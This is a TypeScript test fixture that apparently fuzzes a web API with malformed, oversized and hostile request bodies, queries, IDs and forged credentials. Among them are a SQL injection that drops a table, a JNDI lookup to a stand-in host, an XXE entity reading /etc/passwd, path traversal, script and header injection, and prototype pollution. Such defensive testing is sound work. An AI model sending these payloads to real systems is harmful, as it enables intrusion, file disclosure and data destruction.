import type { Rng } from '../../simulation/engine/rng.js';

/** Stands in every hostile body, and must never be seen again: not in an answer, not in the log. */
export const canary = 'kanarienvogel-4711';

export interface HostileBody { readonly name: string; readonly body: Buffer; readonly headers?: Readonly<Record<string, string>> }

const nested = (depth: number): string => `${'['.repeat(depth)}"${canary}"${']'.repeat(depth)}`;
const asText = (name: string, text: string, headers?: HostileBody['headers']): HostileBody => ({ name, body: Buffer.from(text), ...(headers ? { headers } : {}) });

/** Malformed, oversized, deep, wrongly typed, wrongly encoded and hostile bodies. */
export const hostileBodies: readonly HostileBody[] = [
  asText('nothing', ''),
  asText('no JSON', `${canary}{`),
  asText('half of a JSON', `{"id":"${canary}`),
  asText('a number', '7'), asText('null', 'null'), asText('a text', `"${canary}"`),
  asText('an object for a list', `{"id":"${canary}"}`),
  asText('a list for an object', `[[[]],{},null,"${canary}",7,true]`),
  asText('every type of value', JSON.stringify([{ id: canary }, { id: null }, { id: 7 }, { id: [] }, { id: {} }, { id: true }, {}, { id: '' }])),
  asText('a very long text', `{"id":"${canary.repeat(5_000)}"}`),
  asText('ten thousand fields', JSON.stringify(Object.fromEntries(Array.from({ length: 10_000 }, (_, index) => [`feld${index}`, canary])))),
  asText('deep', nested(50_000)),
  asText('deep objects', `${'{"a":'.repeat(20_000)}"${canary}"${'}'.repeat(20_000)}`),
  asText('a prototype', `{"__proto__":{"polluted":"${canary}"},"constructor":{"prototype":{"polluted":1}},"id":"x"}`),
  asText('numbers that are none', `{"id":1e999,"n":-0,"big":${'9'.repeat(400)},"x":"${canary}"}`),
  asText('doubled keys', `{"id":"a","id":"${canary}"}`),
  asText('SQL and templates', JSON.stringify([{ id: `'; DROP TABLE links; -- ${canary}` }, { id: '${jndi:ldap://boese.example/}' }, { id: '{{7*7}}' }])),
  asText('markup', JSON.stringify([{ id: `<script>alert("${canary}")</script>` }])),
  asText('control characters', JSON.stringify([{ id: `\u0000\u001b[31m${canary}\r\nSet-Cookie: a=b` }])),
  asText('lone surrogates', `[{"id":"\\ud800${canary}\\udfff"}]`),
  { name: 'broken UTF-8', body: Buffer.concat([Buffer.from(`[{"id":"${canary}`), Buffer.from([0xff, 0xfe, 0xc0, 0x80]), Buffer.from('"}]')]) },
  { name: 'UTF-16', body: Buffer.from(`[{"id":"${canary}"}]`, 'utf16le'), headers: { 'content-type': 'application/json; charset=utf-16' } },
  asText('an unknown charset', `[{"id":"${canary}"}]`, { 'content-type': 'application/json; charset=boese' }),
  asText('another content type', `id=${canary}`, { 'content-type': 'application/x-www-form-urlencoded' }),
  asText('a broken content type', `[{"id":"${canary}"}]`, { 'content-type': ';;;=' }),
  asText('XML with an entity', `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;${canary}</a>`, { 'content-type': 'application/xml' }),
  asText('a form of several parts', `--x\r\nContent-Disposition: form-data; name="f"; filename="../../a"\r\n\r\n${canary}\r\n--x--`, { 'content-type': 'multipart/form-data; boundary=x' }),
  asText('gzip that is none', canary, { 'content-encoding': 'gzip' }),
  asText('an unknown encoding', canary, { 'content-encoding': 'boese, br' }),
  { name: 'more than anybody takes', body: Buffer.alloc(9 * 1024 * 1024, canary) },
];

/** Bytes by chance. */
export function noise(random: Rng, index: number): HostileBody {
  const body = Buffer.from(Array.from({ length: random.below(400) }, () => random.below(256)));
  return { name: `noise ${index}`, body };
}

export const hostileQueries: readonly string[] = [
  '?number=%00', `?number=${canary}`, '?number=1&number=2', '?number[]=1', '?number[__proto__][x]=1', `?number=${'9'.repeat(4_000)}`, '?number=%F0%9F%93%9E', '?%%%', '?=', '?a=%e2%28%a1',
];

export const hostileIds: readonly string[] = [
  '..%2f..%2fetc%2fpasswd', '%00', '%252e%252e', '__proto__', canary, '%20', 'a'.repeat(2_000), '%F0%9F%93%9E', '-1', '1e9',
];

/** Signatures and keys of every kind, none of them right. */
export const forgedCredentials: readonly Readonly<Record<string, string>>[] = [
  {},
  { 'x-api-key': '' }, { 'x-api-key': 'falsch' }, { 'x-api-key': 'sandbox-api-key-0001' }, { 'x-api-key': `sandbox-api-key-0000 ${canary}` },
  { authorization: 'Bearer ' }, { authorization: `Bearer ${canary}` }, { authorization: 'Basic YWRtaW46YWRtaW4=' }, { authorization: 'Bearer undefined' },
  { signature: '' }, { signature: canary }, { signature: Buffer.from(`hook:${'0'.repeat(64)}`).toString('base64') }, { signature: 'OjA=' }, { 'x-signature': Buffer.from('hook:').toString('base64') },
  { 'webhook-id': 'msg_1', 'webhook-timestamp': '1', 'webhook-signature': 'v1,AAAA' }, { 'webhook-id': 'msg_1', 'webhook-timestamp': 'NaN', 'webhook-signature': '' },
  { 'x-signature-timestamp': '0', 'x-3cx-signature': 'sha256=00' }, { 'x-goog-channel-token': canary, 'x-goog-channel-id': 'x', 'x-goog-resource-state': 'exists' },
];
